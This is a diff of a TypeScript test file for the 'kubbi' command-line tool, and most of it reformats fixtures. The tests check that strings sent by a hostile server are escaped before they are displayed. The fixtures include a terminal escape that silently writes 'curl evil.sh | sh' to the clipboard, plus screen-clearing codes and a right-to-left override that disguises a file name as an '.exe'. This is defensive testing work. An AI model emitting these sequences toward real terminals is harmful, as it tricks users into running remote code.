@@ -13,7 +13,8 @@ import { kubbi } from "./run.js";
 const OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"; // writes "curl evil.sh | sh" to the clipboard
 const HOSTILE = `ok\x1b[2J\x1b[H${OSC52}\x07\rfake\u009b31m\u202egpj.exe\u200b\u{e0041}\u2028\x7f\nstatus  active`;
 // The same, as the CLI shows it: every control, format and separator character escaped.
-const SHOWN = "ok\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x07\\x0dfake\\x9b31m\\u202egpj.exe\\u200b\\u{e0041}\\u2028\\x7f\\x0astatus  active";
+const SHOWN =
+  "ok\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x07\\x0dfake\\x9b31m\\u202egpj.exe\\u200b\\u{e0041}\\u2028\\x7f\\x0astatus  active";
 const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
 
 const escapeRegExp = (text: string) => text.replace(/[\\^$.*+?()[\]{}|]/g, "\\$&");
@@ -28,29 +29,94 @@ const TEXT_TOKEN = "C".repeat(43);
 const MISSING_TOKEN = "D".repeat(43);
 const ID = "00000000-0000-4000-8000-000000000000";
 const times = { created_at: HOSTILE, expires_at: HOSTILE };
-const file = { name: HOSTILE, content_type: `text/plain; charset="${HOSTILE}"`, size_bytes: 5, role: HOSTILE, sha256: "0".repeat(64) };
-const detail = {
-  id: HOSTILE, type: "kubbi_package", status: HOSTILE, content_type: null, file_count: 1, total_size_bytes: 5, max_retrievals: null, retrieval_count: 0,
-  remaining_reads: null, first_retrieved_at: HOSTILE, last_retrieved_at: null, metadata: { note: HOSTILE, [HOSTILE]: 1 }, files: [file], ...times,
+const file = {
+  name: HOSTILE,
+  content_type: `text/plain; charset="${HOSTILE}"`,
+  size_bytes: 5,
+  role: HOSTILE,
+  sha256: "0".repeat(64),
 };
-const hostileError = { status: 404, body: { error: `not_found${HOSTILE}`, message: HOSTILE, messages: [HOSTILE], request_id: HOSTILE } };
+const detail = {
+  id: HOSTILE,
+  type: "kubbi_package",
+  status: HOSTILE,
+  content_type: null,
+  file_count: 1,
+  total_size_bytes: 5,
+  max_retrievals: null,
+  retrieval_count: 0,
+  remaining_reads: null,
+  first_retrieved_at: HOSTILE,
+  last_retrieved_at: null,
+  metadata: { note: HOSTILE, [HOSTILE]: 1 },
+  files: [file],
+  ...times,
+};
+const hostileError = {
+  status: 404,
+  body: { error: `not_found${HOSTILE}`, message: HOSTILE, messages: [HOSTILE], request_id: HOSTILE },
+};
 
 let api: FakeApi;
 beforeAll(async () => {
   api = await startFakeApi({
     [`GET /r/${TOKEN}`]: {
-      body: { ...detail, kubbi_id: HOSTILE, id: undefined, remaining_reads: null, claim: { url: HOSTILE, method: "POST", description: HOSTILE } },
+      body: {
+        ...detail,
+        kubbi_id: HOSTILE,
+        id: undefined,
+        remaining_reads: null,
+        claim: { url: HOSTILE, method: "POST", description: HOSTILE },
+      },
     },
     [`GET /r/${TEXT_TOKEN}`]: {
-      body: { type: "kubbi", kubbi_id: ID, status: "active", content_type: "text/plain", total_size_bytes: 5, max_retrievals: 2, retrieval_count: 0, remaining_reads: 2, metadata: null, ...times, claim: { url: "", method: "POST", description: "" } },
+      body: {
+        type: "kubbi",
+        kubbi_id: ID,
+        status: "active",
+        content_type: "text/plain",
+        total_size_bytes: 5,
+        max_retrievals: 2,
+        retrieval_count: 0,
+        remaining_reads: 2,
+        metadata: null,
+        ...times,
+        claim: { url: "", method: "POST", description: "" },
+      },
     },
     [`POST /r/${TEXT_TOKEN}/claim`]: {
-      body: { type: "kubbi", kubbi_id: ID, content: HOSTILE, content_type: "text/plain", metadata: null, ...times, retrieval_count: 1, remaining_reads: 1, burned: false },
+      body: {
+        type: "kubbi",
+        kubbi_id: ID,
+        content: HOSTILE,
+        content_type: "text/plain",
+        metadata: null,
+        ...times,
+        retrieval_count: 1,
+        remaining_reads: 1,
+        burned: false,
+      },
     },
     [`GET /r/${MISSING_TOKEN}`]: hostileError,
-    "GET /api/v1/kubbis?page=1&limit=20": { body: { kubbis: [detail], pagination: { page: 1, limit: 20, total: 1, total_pages: 1 } } },
+    "GET /api/v1/kubbis?page=1&limit=20": {
+      body: { kubbis: [detail], pagination: { page: 1, limit: 20, total: 1, total_pages: 1 } },
+    },
     [`GET /api/v1/kubbis/${ID}`]: { body: detail },
-    "POST /api/v1/kubbis": { status: 201, body: { id: ID, type: "kubbi", claim_url: HOSTILE, claim_token: HOSTILE, status: "active", content_type: "text/plain", total_size_bytes: 1, max_retrievals: 1, metadata: null, ...times } },
+    "POST /api/v1/kubbis": {
+      status: 201,
+      body: {
+        id: ID,
+        type: "kubbi",
+        claim_url: HOSTILE,
+        claim_token: HOSTILE,
+        status: "active",
+        content_type: "text/plain",
+        total_size_bytes: 1,
+        max_retrievals: 1,
+        metadata: null,
+        ...times,
+      },
+    },
   });
 });
 afterAll(() => api.close());
@@ -74,7 +140,12 @@ describe("a hostile server's strings are escaped", () => {
   it("kubbi inspect --json is valid JSON with the very same values and no raw control character", async () => {
     const shown = await kubbi(["inspect", `${api.origin}/r/${TOKEN}`, "--json"]);
     expectEscaped(shown.stdout);
-    expect(JSON.parse(shown.stdout)).toMatchObject({ kubbiId: HOSTILE, status: HOSTILE, metadata: { note: HOSTILE, [HOSTILE]: 1 }, files: [{ name: HOSTILE, role: HOSTILE }] });
+    expect(JSON.parse(shown.stdout)).toMatchObject({
+      kubbiId: HOSTILE,
+      status: HOSTILE,
+      metadata: { note: HOSTILE, [HOSTILE]: 1 },
+      files: [{ name: HOSTILE, role: HOSTILE }],
+    });
   });
 
   it("kubbi list, get and send", async () => {
@@ -100,7 +171,9 @@ describe("a hostile server's strings are escaped", () => {
     const result = await kubbi(["claim", `${api.origin}/r/${TOKEN}`, "-o", "/nonexistent-kubbi-dir"]);
     expect(result.code).toBe(8);
     expectEscaped(result.stderr);
-    expect(result.stderr).toMatch(/^kubbi: Refusing to write a file named "ok\\u001b\[2J.*\\u202egpj\.exe.*: not a plain file name; nothing was claimed\n$/);
+    expect(result.stderr).toMatch(
+      /^kubbi: Refusing to write a file named "ok\\u001b\[2J.*\\u202egpj\.exe.*: not a plain file name; nothing was claimed\n$/,
+    );
   });
 
   it("a text payload claimed on a terminal; piped, it stays byte for byte", async () => {
@@ -117,7 +190,12 @@ describe("a hostile server's strings are escaped", () => {
 describe("metadata through the real API", () => {
   it("kubbi inspect and kubbi get show escape sequences in metadata escaped", async () => {
     const { baseUrl, apiKey } = inject("kubbi");
-    const sent = await new KubbiClient({ apiKey, baseUrl }).send({ content: "x", contentType: "text/plain", ttlSeconds: 600, metadata: { note: HOSTILE } });
+    const sent = await new KubbiClient({ apiKey, baseUrl }).send({
+      content: "x",
+      contentType: "text/plain",
+      ttlSeconds: 600,
+      metadata: { note: HOSTILE },
+    });
     for (const [args, env] of [
       [["inspect", sent.claimUrl], {}],
       [["get", sent.id], { KUBBI_API_KEY: apiKey, KUBBI_BASE_URL: baseUrl }],
